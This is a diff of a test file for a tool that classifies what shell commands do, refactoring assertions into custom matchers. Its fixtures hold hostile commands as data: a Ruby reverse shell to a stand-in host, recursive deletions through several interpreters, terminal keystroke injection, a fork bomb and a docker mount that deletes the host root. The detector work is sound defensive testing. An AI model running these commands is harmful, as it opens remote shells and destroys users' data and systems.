@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { effectsOfCommand, includesLine, told } from './told.js';
+import { effectsOfCommand, told } from './told.js';
 
 describe('code that runs what is not in sight', () => {
   it.each([
@@ -44,8 +44,7 @@ describe('code that runs what is not in sight', () => {
     ["mysql -e 'system ./x'", 'execute hidden-command:mysql'],
     [`ruby -rsocket -e 'f=TCPSocket.open("x.test",1).to_i; exec sprintf("/bin/sh -i <&%d",f)'`, 'execute host'],
   ])('%s', async (command, expected) => {
-    const lines = await told(command);
-    expect({ lines, has: includesLine(lines, expected) }).toEqual({ lines, has: true });
+    await expect(command).toTell(expected);
   });
 
   it.each([
@@ -69,7 +68,7 @@ describe('code that runs what is not in sight', () => {
     `php -r 'function each_of($list, $do) { foreach ($list as $one) { $do($one); } }'`,
     `php -r '$app = require "bootstrap.php"; $app($request); $this->run($x); $handlers["x"]($y);'`,
   ])('and not %s', async (command) => {
-    expect((await told(command)).filter((line) => /^execute (?:host|\?)/.test(line))).toEqual([]);
+    await expect(command).not.toTell(/^execute (?:host|\?)/);
   });
 });
 
@@ -119,17 +118,17 @@ describe('names under which code calls', () => {
     `lua -e "io.popen('rm -rf a', 'r')"`,
     `node -e "require('child_process').execSync('rm -rf a', 'utf8')"`,
   ])('%s', async (command) => {
-    expect(await told(command)).toContain('delete -r /home/u/proj/a');
+    await expect(command).toTell('delete -r /home/u/proj/a');
   });
 });
 
 describe('an argument that is only known when the code runs', () => {
   it.each([`perl -e 'system("rm", "-rf", $ARGV[0])' "$1"`, `ruby -e 'system("rm", "-rf", target)'`, `node -e "require('child_process').execFileSync('rm', ['-rf', target])"`])('%s', async (command) => {
-    expect(await told(command)).toContain('delete -r ?');
+    await expect(command).toTell('delete -r ?');
   });
 
   it.each([`node -e "require('child_process').execFile('rm', ['-rf', 'a'], { cwd }, () => 1)"`, `node -e "require('child_process').exec('rm -rf a', callback)"`, `python3 -c "import subprocess; subprocess.call('rm -rf a', shell=True, cwd=x)"`, `ruby -e 'system("rm", "-rf", "a", out: log)'`])('and not %s', async (command) => {
-    expect((await told(command)).filter((line) => line.startsWith('delete'))).toEqual(['delete -r /home/u/proj/a']);
+    await expect(command).toTellOnly(/^delete/, ['delete -r /home/u/proj/a']);
   });
 });
 
@@ -165,18 +164,18 @@ describe('the desktop and the machine', () => {
     [`python3 -c "import fcntl,termios; fcntl.ioctl(0, termios.TIOCSTI, 'y')"`, 'drive-terminal terminal:keyboard'],
     [`perl -e 'fork while 1'`, 'exhaust process:fork'],
   ])('%s', async (command, expected) => {
-    expect(await told(command)).toContain(expected);
+    await expect(command).toTell(expected);
   });
 
   it.each([`osascript -e 'set c to "keystroke"' -e 'return c'`, `osascript -e 'set the clipboard to "a"'`, 'GIT_TRACE_CURL=1 git fetch', 'GIT_TRACE_REDACT=1 GIT_TRACE=1 git fetch', `osascript -e 'tell application "Finder" to open home'`, `osascript -e 'display notification "keystroke"'`, `python3 -c "import os; os.fork(); print(1)"`, `python3 -c "print('TIOCSTI')"`])('and not %s', async (command) => {
-    expect((await told(command)).filter((line) => /^(?:drive-terminal|signal|exhaust|delete|reveal-environment)/.test(line))).toEqual([]);
+    await expect(command).not.toTell(/^(?:drive-terminal|signal|exhaust|delete|reveal-environment)/);
   });
 });
 
 describe('whose files they are', () => {
   it('maps what lies in a mount to the host', async () => {
-    expect(await told('docker run -v /srv/x:/data alpine rm -rf /data/y')).toContain('delete -r /srv/x/y');
-    expect(await told('docker run --mount type=bind,source=/,target=/host alpine rm -rf /host')).toContain('delete -r /');
+    await expect('docker run -v /srv/x:/data alpine rm -rf /data/y').toTell('delete -r /srv/x/y');
+    await expect('docker run --mount type=bind,source=/,target=/host alpine rm -rf /host').toTell('delete -r /');
   });
 });
 
